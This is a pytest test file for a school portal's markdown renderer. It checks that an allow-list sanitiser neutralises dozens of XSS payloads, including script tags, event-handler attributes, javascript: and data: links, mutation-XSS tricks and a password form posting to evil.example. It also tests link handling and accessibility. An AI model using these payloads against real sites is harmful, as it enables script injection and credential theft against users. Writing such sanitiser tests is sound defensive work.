"""Markdown reaches a page only through an allow-list: what can do harm is shown as words or left out."""

import re

import pytest
from bs4 import BeautifulSoup

from portal.pages.markdown import ATTRIBUTES, TAGS, render_markdown

# Each tries to run something, load something from elsewhere, or take over the page.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>body{display:none}</style>",
    "<form action='//evil.example'><input name=password></form>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href='javascript:alert(1)'>x</a>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src='--><img src=x onerror=alert(1)>'-->",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](http://evil.example/pixel.png)",
    "![x](x 'onerror=alert(1)')",
    '[x](http://ok.example "\\" onclick=\\"alert(1)")',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    '``` x" onclick="alert(1)\ny\n```',
    "Term\n:   <script>alert(1)</script>",
    "==<b onmouseover=alert(1)>x</b>==",
    "~~[x](javascript:alert(1))~~",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_leaves_only_what_is_allowed(attack: str) -> None:
    soup = BeautifulSoup(str(render_markdown(f"Before\n\n{attack}\n\nAfter")), "html.parser")
    frames = soup.select("div.table-frame")
    for frame in frames:
        frame.unwrap()
    for table in soup.select("table"):
        del table["class"]
    assert {tag.name for tag in soup.find_all(True)} <= TAGS
    for tag in soup.find_all(True):
        assert set(tag.attrs) <= ATTRIBUTES.get(tag.name, set())
        address = re.sub(r"[\s\x00-\x20]", "", str(tag.get("href", "")))
        assert re.match(r"(?i)(https?|mailto|tel):", address) or ":" not in address


def test_links_a_school_needs_are_kept() -> None:
    html = render_markdown("[a](/forms/leave/) [b](#notice) [c](tel:01632960200) [d](mailto:office@school.example)")
    assert re.findall(r'href="([^"]+)"', html) == [
        "/forms/leave/",
        "#notice",
        "tel:01632960200",
        "mailto:office@school.example",
    ]


def test_direction_overrides_and_invisible_characters_are_taken_out() -> None:
    assert render_markdown("ab\u202ecd\u200bef\u2066gh") == "<p>abcdefgh</p>"


def test_heading_one_becomes_two_because_the_page_has_its_own() -> None:
    assert render_markdown("# Our day") == "<h2>Our day</h2>"


def test_table_gets_a_frame_that_can_be_scrolled_with_the_keyboard() -> None:
    soup = BeautifulSoup(str(render_markdown("| Day | From |\n|---|---:|\n| Monday | 08:50 |")), "html.parser")
    frame = soup.div
    assert frame is not None
    assert (frame["role"], frame["tabindex"], [cell.get_text() for cell in frame.select("th, td")]) == (
        "group",
        "0",
        ["Day", "From", "Monday", "08:50"],
    )
    assert soup.select("[style], [align]") == []
